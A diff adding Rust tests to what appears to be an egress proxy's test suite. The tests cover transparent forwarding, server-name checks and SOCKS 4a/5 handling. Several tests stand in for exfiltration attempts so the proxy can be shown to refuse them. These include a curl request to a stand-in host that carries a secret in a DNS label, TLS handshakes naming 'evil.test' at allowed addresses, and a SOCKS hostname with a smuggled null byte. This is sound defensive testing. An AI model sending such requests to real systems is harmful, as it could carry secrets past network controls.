@@ -26,6 +26,13 @@ pub fn trials() -> Vec<Needing> {
         test("px_018_alternative_services_are_not_told", alternative_services),
         test("a_connection_is_recorded_before_and_after", recorded),
         test_with("curl_comes_through_the_proxy", Need::Program("curl"), curl),
+        test_with("curl_needs_no_proxy", Need::Program("curl"), curl_transparent),
+        test_with("dn_001_a_denied_name_is_refused_with_its_reason", Need::Program("curl"), denied_name),
+        test("a_connection_to_a_name_arrives", to_a_name),
+        test("tl_001_the_server_name_must_be_the_name_that_was_asked_for", server_name),
+        test("nt_011_an_address_with_an_allowed_server_name_is_refused", address_with_name),
+        test("a_request_by_socks_arrives", by_socks),
+        test("px_017_socks_serves_connect_alone", socks_connect_alone),
     ]
 }
 
@@ -294,4 +301,116 @@ fn curl() -> Result<(), Failed> {
     let body = "b".repeat(100_000);
     let output = world.inside(&["curl", "-sS", "-x", &proxy, "--data-binary", &body, &url])?;
     ensure(output.stdout == body.as_bytes(), || printed(&output))
+}
+
+fn curl_transparent() -> Result<(), Failed> {
+    let world = World::new()?;
+    let ca = world.authority.file().display().to_string();
+    for (host, origin) in [("tls.test", &world.tls), ("six.test", &world.six)] {
+        for family in ["-4", "-6"] {
+            let url = format!("https://{host}:{}/bytes/2000000", origin.port());
+            let output = world.inside(&["curl", "-sS", family, "--cacert", &ca, &url])?;
+            ensure(output.stdout.len() == 2_000_000, || printed(&output))?;
+        }
+    }
+    let url = format!("http://plain.test:{}/chunked/100000", world.plain.port());
+    let output = world.inside(&["curl", "-sS", &url, &url])?;
+    ensure(output.stdout.len() == 200_000, || printed(&output))?;
+    same(&world.plain.connections().len(), &1)
+}
+
+fn denied_name() -> Result<(), Failed> {
+    let world = World::new()?;
+    let output = world.inside(&["curl", "-sS", "http://secret-in-a-label.evil.test/"])?;
+    ensure(output.status.code() == Some(6), || printed(&output))?;
+    let refused = world.events("egress")?;
+    let line = refused.first().ok_or("nothing is recorded")?;
+    same(&line["host"], &Value::from("secret-in-a-label.evil.test"))?;
+    same(&line["entry"], &Value::from("dns"))?;
+    same(&line["reason"], &Value::from("host_not_allowed"))
+}
+
+fn to_a_name() -> Result<(), Failed> {
+    let world = World::new()?;
+    let handshake = world.handshake("tls.test");
+    let said = world.say(&format!("tls.test:{}", world.tls.port()), &[&handshake, &get("/", "tls.test"), "end"])?;
+    has("TLS", &said, ANSWER)?;
+    let host = format!("plain.test:{}", world.plain.port());
+    let said = world.say(&host, &[&get("/", &host), "end"])?;
+    has("HTTP", &said, ANSWER)?;
+    let opened = world.events("egress-open")?;
+    same(&opened.first().ok_or("nothing is recorded")?["entry"], &Value::from("transparent"))
+}
+
+fn server_name() -> Result<(), Failed> {
+    let world = World::new()?;
+    let address = format!("tls.test:{}", world.tls.port());
+    let handshake = world.handshake("evil.test");
+    let said = world.say(&address, &[&handshake, &get("/", "evil.test"), "end"])?;
+    lacks("said", &said, ANSWER)?;
+    // The client hears why at once: an alert, not a reset.
+    has("alert", &said, "UnrecognisedName")?;
+    same(&world.tls.connections().len(), &0)?;
+    has("record", &format!("{:?}", world.events("egress")?), "sni_mismatch")
+}
+
+fn address_with_name() -> Result<(), Failed> {
+    let world = World::new()?;
+    let handshake = world.handshake("tls.test");
+    for address in ["192.0.2.1", "[2001:db8::1]", "198.18.77.77"] {
+        let said = world.say(&format!("{address}:{}", world.tls.port()), &[&handshake, &get("/", "tls.test"), "end"])?;
+        lacks("said", &said, ANSWER)?;
+        has("alert", &said, "received fatal alert")?;
+    }
+    same(&world.tls.connections().len(), &0)
+}
+
+fn socks5(host: &str, port: u16) -> String {
+    let name: String = host.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
+    let [high, low] = port.to_be_bytes();
+    format!("send:\\x05\\x01\\x00\\x03\\x{:02x}{name}\\x{high:02x}\\x{low:02x}", host.len())
+}
+
+fn by_socks() -> Result<(), Failed> {
+    let world = World::new()?;
+    let port = world.tls.port();
+    let handshake = world.handshake("tls.test");
+    let greet = "send:\\x05\\x01\\x00";
+    let said = world.say(PROXY, &[greet, "read:2", &socks5("tls.test", port), "read:10", &handshake, &get("/5", "tls.test"), "end"])?;
+    has("SOCKS 5", &said, ANSWER)?;
+    let [high, low] = port.to_be_bytes();
+    let four = format!("send:\\x04\\x01\\x{high:02x}\\x{low:02x}\\x00\\x00\\x00\\x01\\x00tls.test\\x00");
+    let said = world.say(PROXY, &[&four, "read:8", &handshake, &get("/4", "tls.test"), "end"])?;
+    has("SOCKS 4a", &said, ANSWER)?;
+    let arrived = world.tls.text();
+    has("SOCKS 5", &arrived, "GET /5")?;
+    has("SOCKS 4a", &arrived, "GET /4")?;
+    world.tls.forget();
+    // Another name, another server name, another protocol.
+    let evil = world.handshake("evil.test");
+    world.say(PROXY, &[greet, "read:2", &socks5("evil.test", port), "read:10", "end"])?;
+    world.say(PROXY, &[greet, "read:2", &socks5("tls.test", port), "read:10", &evil, "end"])?;
+    world.say(PROXY, &[greet, "read:2", &socks5("tls.test", port), "read:10", "send:SSH-2.0-x\\r\\n", "answer"])?;
+    world.say(PROXY, &[greet, "read:2", &socks5("evil.test\0.tls.test", port), "answer"])?;
+    same(&world.tls.text(), &String::new())
+}
+
+fn socks_connect_alone() -> Result<(), Failed> {
+    let world = World::new()?;
+    let refused = |command: &str| -> Result<String, Failed> {
+        let request = format!("send:\\x05\\x{command}\\x00\\x01\\x7f\\x00\\x00\\x01\\x00\\x50");
+        let output = world.inside(&[
+            &std::env::current_exe()?.display().to_string(),
+            "say",
+            PROXY,
+            "send:\\x05\\x01\\x00",
+            "read:2",
+            &request,
+            "end",
+        ])?;
+        Ok(format!("{:?}", output.stdout))
+    };
+    has("BIND", &refused("02")?, "[5, 0, 5, 7,")?;
+    has("UDP", &refused("03")?, "[5, 0, 5, 7,")?;
+    has("an address", &refused("01")?, "[5, 0, 5, 2,")
 }
